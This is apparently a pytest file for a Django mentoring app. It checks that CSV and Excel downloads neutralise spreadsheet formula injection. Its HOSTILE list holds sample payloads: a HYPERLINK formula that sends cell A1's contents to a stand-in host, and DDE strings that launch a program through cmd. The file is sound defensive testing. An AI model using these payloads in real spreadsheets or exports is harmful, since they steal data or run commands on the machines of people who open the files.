"""CSV and Excel downloads neutralise every cell a spreadsheet would run as a formula."""
import csv
import io
import re

import pytest
from django.urls import reverse

from accounts.models import FederalState, Organisation
from events.models import Event
from mentoring.cockpit import figures
from mentoring.cockpit.export import table_csv, table_xlsx
from mentoring.cockpit.scope import Scope
from mentoring.cockpit.tables import Row, Table

from .test_report import xlsx_cells

pytestmark = pytest.mark.django_db
HOSTILE = ['=HYPERLINK("https://boese.example/?d="&A1;"Klick")', "+49 561 1234", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab=1+1", "\rWagenrücklauf=1", "＝1+1"]


def parse_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff"), "Excel needs the byte order mark for umlauts"
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def dangerous(value: str) -> bool:
    """Text a spreadsheet would run: a formula sign first (a plain negative number is a number)."""
    return bool(value) and value[0] in "=+-@\t\r＝" and not re.fullmatch(r"-\d+(?:[.,]\d+)?", value)


def test_a_table_with_hostile_text_is_neutralised_in_csv_and_excel():
    table = Table(slug="probe", title="Probe", header=HOSTILE[0], columns=HOSTILE[1:3],
                  rows=[Row(value, [value, -3]) for value in HOSTILE])
    rows = parse_csv(table_csv(table))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if dangerous(cell)]
    assert rows[1] == ["'" + HOSTILE[0], "'" + HOSTILE[0], "-3"], "text gets an apostrophe, a number stays a number"
    sheet = xlsx_cells(table_xlsx(table))["probe"]
    texts = [cell for row in sheet for cell in row if isinstance(cell, str)]
    assert len(texts) == 2 * len(HOSTILE) + 3 and not [cell for cell in texts if dangerous(cell)]
    assert sheet[1][2] == -3.0


def test_names_from_the_data_are_neutralised_in_every_download(client, generated):
    """A Bundesland, an organisation and an event named like formulas, as staff download them."""
    FederalState.objects.filter(code="06").update(name=HOSTILE[0])
    Organisation.objects.update(name=HOSTILE[3])
    Event.objects.update(title=HOSTILE[2])
    client.force_login(generated["staff"])
    seen = set()
    for slug in figures.TABLES:
        text = client.get(reverse("cockpit:table_csv", args=[slug]), {"jahr": 2026}).content.decode()
        for row in parse_csv(text):
            assert not [cell for cell in row if dangerous(cell)], (slug, row)
            seen |= {cell for cell in row if cell.startswith("'")}
        sheet = next(iter(xlsx_cells(client.get(reverse("cockpit:table_xlsx", args=[slug]), {"jahr": 2026}).content)
                          .values()))
        assert not [cell for row in sheet for cell in row if isinstance(cell, str) and dangerous(cell)], slug
    assert {"'" + HOSTILE[0], "'" + HOSTILE[2], "'" + HOSTILE[3]} <= seen, "the hostile names were in the files"


def test_csv_is_semicolon_separated_with_german_decimals(generated):
    text = table_csv(figures.table(Scope(year=2026), "treffen-je-monat"))
    rows = parse_csv(text)
    assert rows[0] == ["Monat", "Treffen", "Stunden"]
    assert all("," in row[2] for row in rows[1:]), "hours with a decimal comma"
